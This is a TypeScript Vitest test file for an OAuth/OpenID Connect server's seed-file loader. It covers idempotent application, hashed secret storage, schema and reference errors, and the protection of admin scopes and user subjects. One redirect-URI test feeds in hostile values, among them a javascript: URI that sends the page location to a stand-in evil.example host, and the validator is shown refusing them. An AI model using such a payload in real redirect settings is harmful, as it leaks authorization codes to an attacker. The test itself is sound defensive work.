import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Queryable } from '../../src/db/db.js'
import { DEMO_SEED_FILE } from '../../src/seed/paths.js'
import { applySeed, applySeedFile, SeedError, seedWarnings, validateSeed } from '../../src/seed/apply.js'
import { createPgClientStore } from '../../src/stores/clients.postgres.js'
import { createPgResourceStore } from '../../src/stores/resources.postgres.js'
import { createPgUserStore } from '../../src/stores/users.postgres.js'
import { secretHash, secretMatches } from '../../src/tokens/handles.js'
import { verifyPassword } from '../../src/interaction/passwords.js'
import { createTestDb, type TestDb } from '../helpers/db.js'

const TABLES = ['api_scopes', 'api_resources', 'api_resource_scopes', 'api_resource_secrets', 'identity_resources', 'clients', 'client_secrets', 'users']

/** Every row of every configuration table, updated_at and ids included. */
async function dump(db: Queryable): Promise<Record<string, unknown[]>> {
  const out: Record<string, unknown[]> = {}
  for (const authz of TABLES) out[authz] = (await db.query(`SELECT to_jsonb(x) AS r FROM ${authz} x ORDER BY to_jsonb(x)::text`)).rows
  return out
}

async function seedError(p: Promise<unknown>): Promise<SeedError> {
  const err = await p.then(() => undefined, (e: unknown) => e)
  expect(err).toBeInstanceOf(SeedError)
  return err as SeedError
}

let authz: TestDb
let dir: string
beforeAll(async () => {
  authz = await createTestDb()
  dir = await mkdtemp(join(tmpdir(), 'authz-seed-'))
})
afterAll(async () => {
  await authz.close()
  await rm(dir, { recursive: true, force: true })
})

describe('seed file', () => {
  it('applies the demo seed, and applying it again changes nothing', async () => {
    expect(await applySeedFile(authz.db, DEMO_SEED_FILE)).toEqual({ clients: 8, apiScopes: 2, apiResources: 1, identityResources: 4, users: 1, identityProviders: 0 })
    const first = await dump(authz.db)
    await applySeedFile(authz.db, DEMO_SEED_FILE)
    expect(await dump(authz.db)).toEqual(first)

    const ciba = await createPgClientStore(authz.db).findById('demo-ciba')
    expect(ciba).toMatchObject({
      clientName: 'Demo CIBA client', allowedGrantTypes: ['urn:openid:params:grant-type:ciba'],
      allowedScopes: ['openid', 'profile', 'email', 'orders.read', 'offline_access'], allowOfflineAccess: true,
      accessTokenType: 'jwt', requireClientSecret: true, enabled: true,
    })
    expect(ciba?.secrets).toEqual([{ valueHash: secretHash('demo-ciba-secret'), expiresAt: undefined, description: undefined }])
    expect(await createPgClientStore(authz.db).findById('demo-web')).toMatchObject({
      allowedGrantTypes: ['authorization_code'], redirectUris: ['http://localhost:8080/callback'],
      postLogoutRedirectUris: ['http://localhost:8080/'], requirePkce: true, requireConsent: true, allowOfflineAccess: true,
    })
    const catalogue = await createPgResourceStore(authz.db).loadCatalogue()
    expect(catalogue.identityResources.get('email')?.claims).toEqual(['email', 'email_verified'])
    expect(catalogue.identityResources.get('offline_access')?.claims).toEqual([])
    expect(catalogue.identityResources.get('profile')?.claims).toHaveLength(14)
    expect(catalogue.apiResources.get('orders-api')?.scopes).toEqual(['orders.read', 'orders.write'])
    const alice = await createPgUserStore(authz.db).findByUsername('alice')
    expect(alice?.claims).toEqual({ name: 'Alice Example', email: 'alice@example.com', email_verified: true })
    expect(await verifyPassword('alice-password', alice?.passwordHash)).toBe(true)
  })

  it('stores secrets and passwords only hashed', async () => {
    const text = JSON.stringify(await dump(authz.db))
    for (const plain of ['orders-api-secret', 'demo-backend-secret', 'demo-reference-secret', 'demo-ciba-secret', 'demo-legacy-secret', 'demo-gateway-secret', 'demo-web-secret', 'alice-password']) {
      expect(text).not.toContain(plain)
    }
    const api = await createPgResourceStore(authz.db).findApiResource('orders-api')
    expect(secretMatches('orders-api-secret', api?.secrets[0]?.valueHash ?? '')).toBe(true)
  })

  it('updates what changed, accepts pre-hashed secrets, replaces the secret set, keeps an omitted password', async () => {
    const before = await dump(authz.db)
    await applySeed(authz.db, {
      clients: [{ clientId: 'demo-backend', secrets: [{ sha256: secretHash('rotated'), expiration: '2030-01-01', description: 'new' }],
        allowedGrantTypes: ['client_credentials'], allowedScopes: ['orders.read'] }],
      users: [{ subjectId: 'alice-0001', username: 'alice', cibaUserCode: '4711', claims: { name: 'Alice' } }],
    })
    const backend = await createPgClientStore(authz.db).findById('demo-backend')
    expect(backend?.secrets).toEqual([{ valueHash: secretHash('rotated'), expiresAt: Date.UTC(2030, 0, 1), description: 'new' }])
    expect(backend?.allowedScopes).toEqual(['orders.read'])
    const alice = await createPgUserStore(authz.db).findByUsername('alice')
    expect(await verifyPassword('alice-password', alice?.passwordHash)).toBe(true)
    expect(await verifyPassword('4711', alice?.cibaUserCodeHash)).toBe(true)
    const after = await dump(authz.db)
    // Untouched rows keep their updated_at; the changed ones moved.
    expect(after.clients?.filter((r) => JSON.stringify(r).includes('demo-ciba'))).toEqual(before.clients?.filter((r) => JSON.stringify(r).includes('demo-ciba')))
    expect(after.api_scopes).toEqual(before.api_scopes)
  })

  it('rejects an invalid file whole, naming the JSON path of every problem', async () => {
    const before = await dump(authz.db)
    const err = await seedError(
      applySeed(authz.db, {
        apiScopes: [{ name: 'new.scope' }],
        clients: [
          { clientId: 'ok', allowedGrantTypes: ['client_credentials', 'client_credential'] },
          { clientId: 'typo', secrets: [{ vaule: 'x' }], accesTokenType: 'jwt' },
          { clientId: 'ok', jwks: { keys: [{ kty: 'oct', k: 'AAAA' }] } },
        ],
        identityResources: [3],
        users: [{ subjectId: 's', username: 'u', password: 7 }],
      }),
    )
    // In the schema's field order, then duplicate keys.
    expect(err.problems).toEqual([
      'identityResources[0]: must be a scope name or an object {name, displayName, description, claims, enabled}',
      'clients[0].allowedGrantTypes[1]: must be one of client_credentials, password, authorization_code, refresh_token, urn:openid:params:grant-type:ciba, urn:ietf:params:oauth:grant-type:device_code, urn:ietf:params:oauth:grant-type:token-exchange, urn:ietf:params:oauth:grant-type:jwt-bearer or an absolute URI',
      'clients[1].secrets[0]: Unrecognized key: "vaule"',
      'clients[1].secrets[0]: needs exactly one of "value" or "sha256"',
      'clients[1]: Unrecognized key: "accesTokenType"',
      'clients[2].jwks.keys[0].kty: Invalid option: expected one of "RSA"|"EC"|"OKP"',
      'users[0].password: Invalid input: expected string, received number',
      // Found with the schema's problems, not on the next run.
      'clients[2].clientId: duplicate client "ok"',
    ])
    expect(err.message.split('\n')[0]).toBe('invalid seed file:')
    expect(await dump(authz.db)).toEqual(before)
  })

  it('rejects duplicates and dangling references in one go, without writing anything', async () => {
    // Reported one kind per run, a file took as many runs to fix as it had kinds of problem.
    const before = await dump(authz.db)
    const err = await seedError(
      applySeed(authz.db, {
        apiScopes: [{ name: 'fresh.scope' }],
        apiResources: [{ name: 'x-api', scopes: ['fresh.scope', 'orders.read', 'missing.scope'] }],
        clients: [
          { clientId: 'a', allowedScopes: ['openid', 'fresh.scope', 'nope'] },
          { clientId: 'a' },
        ],
        users: [{ subjectId: 'alice-0001', username: 'not-alice' }],
      }),
    )
    expect(err.problems).toEqual([
      'clients[1].clientId: duplicate client "a"',
      'apiResources[0].scopes[2]: "missing.scope" is not an api scope',
      'clients[0].allowedScopes[2]: "nope" is neither an api scope nor an identity resource',
      'users[0].subjectId: "alice-0001" already belongs to user "alice"',
    ])
    expect(await dump(authz.db)).toEqual(before)
  })

  it('refuses an api scope named like an admin scope, which asking for no scope would then grant', async () => {
    const before = await dump(authz.db)
    const err = await seedError(applySeed(authz.db, { apiScopes: [{ name: 'orders.write' }, { name: 'authz:admin' }, { name: 'authz:admin:read' }] }))
    const detail = '"authz:admin" and "authz:admin:read" are the admin API\'s built-in scopes, never an api scope'
    expect(err.problems).toEqual([`apiScopes[1].name: ${detail}`, `apiScopes[2].name: ${detail}`])
    expect(await dump(authz.db)).toEqual(before)
  })

  it('reports every problem of a file at once, each with its JSON path: schema, duplicates, references, stored users', async () => {
    const before = await dump(authz.db)
    const err = await seedError(
      applySeed(authz.db, {
        apiScopes: [{ name: 'fresh.scope', enabled: 'yes' }],
        clients: [
          // A wrong type used to hide the checks that look at the whole client (origins, URIs).
          { clientId: 'web', enabled: 'yes', allowedGrantTypes: ['authorization_code'], allowedScopes: ['openid', 'nope'],
            redirectUris: ['javascript:alert(1)'], allowedCorsOrigins: ['https://web.example/'] },
          { clientId: 'web', accesTokenType: 'jwt', allowedScopes: ['fresh.scope'] },
          { clientId: 'code', allowedGrantTypes: ['authorization_code'], backChannelLogoutUri: 'http://code.example/bcl', requireConsent: 1 },
        ],
        users: [
          { subjectId: 'alice-1', username: 'alice', password: 7 },
          { subjectId: 'alice-0001', username: 'mallory' },
          { subjectId: 'bob-1', username: 'mallory' },
        ],
      }),
    )
    expect(err.problems).toEqual([
      // The schema, in its field order.
      'apiScopes[0].enabled: Invalid input: expected boolean, received string',
      'clients[0].enabled: Invalid input: expected boolean, received string',
      'clients[0].redirectUris[0]: client web: scheme "javascript:" is not allowed: use https, http only for localhost, 127.0.0.1 or [::1], or a native app\'s private-use scheme named after a domain it controls, such as com.example.app:/callback (RFC 8252 §7)',
      'clients[0].allowedCorsOrigins[0]: client web: "https://web.example/" is not an origin (scheme, host and optional port, as https://app.example.com: no path, no trailing slash)',
      'clients[1]: Unrecognized key: "accesTokenType"',
      'clients[2].requireConsent: Invalid input: expected boolean, received number',
      'clients[2].redirectUris: client code: allowedGrantTypes has authorization_code, which needs at least one redirect URI',
      'clients[2].backChannelLogoutUri: client code: backChannelLogoutUri "http://code.example/bcl" must use https (http only for localhost)',
      'users[0].password: Invalid input: expected string, received number',
      // Duplicate keys.
      'clients[1].clientId: duplicate client "web"',
      'users[2].username: duplicate username "mallory"',
      // References, to the file or to what is stored.
      'clients[0].allowedScopes[1]: "nope" is neither an api scope nor an identity resource',
      'users[0].subjectId: user "alice" has subject "alice-0001", and a subject never changes (OpenID Connect Core §2): write "alice-0001" here, or another username for another user',
      'users[1].subjectId: "alice-0001" already belongs to user "alice"',
    ])
    expect(await dump(authz.db)).toEqual(before)
  })

  it('never moves a username to another subject: the file is refused, naming the user', async () => {
    // Re-keying alice would leave her tokens, consents and sessions with a subject id that no user
    // holds any more, free to be given to someone else, who would then inherit them; and every app
    // that knows her by sub would meet a stranger. docs/connect-an-app.md's user, applied on top of
    // the demo seed, did exactly that.
    const before = await dump(authz.db)
    const err = await seedError(
      applySeed(authz.db, {
        identityResources: ['openid', 'profile', 'email', 'offline_access'],
        users: [
          { subjectId: 'alice-1', username: 'alice', password: 'alice-pw', claims: { name: 'Alice Example', email: 'alice@example.com' } },
          { subjectId: 'carol-1', username: 'carol' },
        ],
      }),
    )
    expect(err.problems).toEqual([
      'users[0].subjectId: user "alice" has subject "alice-0001", and a subject never changes (OpenID Connect Core §2): write "alice-0001" here, or another username for another user',
    ])
    expect(await dump(authz.db)).toEqual(before)
    expect((await createPgUserStore(authz.db).findByUsername('alice'))?.subjectId).toBe('alice-0001')
    expect(await createPgUserStore(authz.db).findBySubjectId('alice-1')).toBeUndefined()

    // A free username is another user, with its own subject.
    await applySeed(authz.db, { users: [{ subjectId: 'alice-1', username: 'alice.2' }] })
    expect((await createPgUserStore(authz.db).findByUsername('alice.2'))?.subjectId).toBe('alice-1')
    expect((await createPgUserStore(authz.db).findByUsername('alice'))?.subjectId).toBe('alice-0001')
  })

  it('stores an identity resource description, changes it, and keeps updated_at when nothing changed', async () => {
    const seed = (description: string | undefined) => ({
      identityResources: [{ name: 'email', displayName: 'E-mail', ...(description ? { description } : {}) }],
    })
    await applySeed(authz.db, seed('Your e-mail address, verified or not'))
    const read = async () => (await createPgResourceStore(authz.db).loadCatalogue()).identityResources.get('email')
    expect(await read()).toMatchObject({ displayName: 'E-mail', description: 'Your e-mail address, verified or not', claims: ['email', 'email_verified'] })
    const before = await dump(authz.db)
    await applySeed(authz.db, seed('Your e-mail address, verified or not'))
    expect(await dump(authz.db)).toEqual(before)
    await applySeed(authz.db, seed(undefined))
    expect((await read())?.description).toBeUndefined()
  })

  it('stores alwaysIncludeUserClaimsInIdToken (default true) and changes it', async () => {
    const seed = (always?: boolean) => ({ clients: [{ clientId: 'claims-app', ...(always === undefined ? {} : { alwaysIncludeUserClaimsInIdToken: always }) }] })
    const read = async () => (await createPgClientStore(authz.db).findById('claims-app'))?.alwaysIncludeUserClaimsInIdToken
    await applySeed(authz.db, seed())
    expect(await read()).toBe(true)
    await applySeed(authz.db, seed(false))
    expect(await read()).toBe(false)
    await applySeed(authz.db, seed(true))
    expect(await read()).toBe(true)
  })

  it('applies a public client\'s requirePkce false and reUse as written, and warns that they have no effect', async () => {
    const file = {
      clients: [
        { clientId: 'lax-spa', requireClientSecret: false, requirePkce: false, refreshTokenUsage: 'reUse' },
        { clientId: 'lax-backend', secrets: [{ value: 'x' }], requirePkce: false, refreshTokenUsage: 'reUse' },
      ],
    }
    expect(seedWarnings(validateSeed(file))).toEqual([
      'clients[0].requirePkce: client "lax-spa" is public (requireClientSecret false), so PKCE is required of it anyway (RFC 9700 §2.1.1); false has no effect',
      'clients[0].refreshTokenUsage: client "lax-spa" is public (requireClientSecret false), so its refresh tokens rotate anyway (RFC 9700 §4.14.2); reUse has no effect',
    ])
    await applySeed(authz.db, file)
    expect(await createPgClientStore(authz.db).findById('lax-spa')).toMatchObject({ requireClientSecret: false, requirePkce: false, refreshTokenUsage: 'reUse' })
    expect(seedWarnings(validateSeed(JSON.parse(await readFile(DEMO_SEED_FILE, 'utf8'))))).toEqual([])
  })

  it('names the file when it cannot be read or is not JSON', async () => {
    const missing = join(dir, 'missing.json')
    expect((await seedError(applySeedFile(authz.db, missing))).message).toBe(`cannot read seed file ${missing}: ENOENT`)
    const broken = join(dir, 'broken.json')
    await writeFile(broken, '{"clients": [')
    expect((await seedError(applySeedFile(authz.db, broken))).message).toMatch(new RegExp(`^seed file ${broken} is not valid JSON: `))
    const bad = join(dir, 'bad.json')
    await writeFile(bad, '{"client": []}')
    expect((await seedError(applySeedFile(authz.db, bad))).message).toBe(`invalid seed file ${bad}:\n  (root): Unrecognized key: "client"`)
  })

  it('refuses redirect URIs that would hand the code to script or to nobody, all at once, storing nothing', async () => {
    // The rules themselves: redirect-uris.unit.test.ts.
    const notAllowed = (scheme: string) =>
      `scheme "${scheme}:" is not allowed: use https, http only for localhost, 127.0.0.1 or [::1], or a native app's private-use scheme named after a domain it controls, such as com.example.app:/callback (RFC 8252 §7)`
    const before = await dump(authz.db)
    const err = await seedError(
      applySeed(authz.db, {
        clients: [
          { clientId: 'ok', allowedGrantTypes: ['authorization_code'], redirectUris: ['https://ok.example/cb'] },
          {
            clientId: 'bad', allowedGrantTypes: ['authorization_code'],
            redirectUris: ['https://bad.example/cb', 'javascript:fetch("//evil.example/"+location)', 'localhost:3000/cb'],
            postLogoutRedirectUris: ['data:text/html,bye'],
          },
          { clientId: 'nocb', allowedGrantTypes: ['authorization_code', 'refresh_token'] },
        ],
      }),
    )
    expect(err.problems).toEqual([
      `clients[1].redirectUris[1]: client bad: ${notAllowed('javascript')}`,
      `clients[1].redirectUris[2]: client bad: ${notAllowed('localhost')}`,
      `clients[1].postLogoutRedirectUris[0]: client bad: ${notAllowed('data')}`,
      'clients[2].redirectUris: client nocb: allowedGrantTypes has authorization_code, which needs at least one redirect URI',
    ])
    expect(await dump(authz.db)).toEqual(before)
  })
})
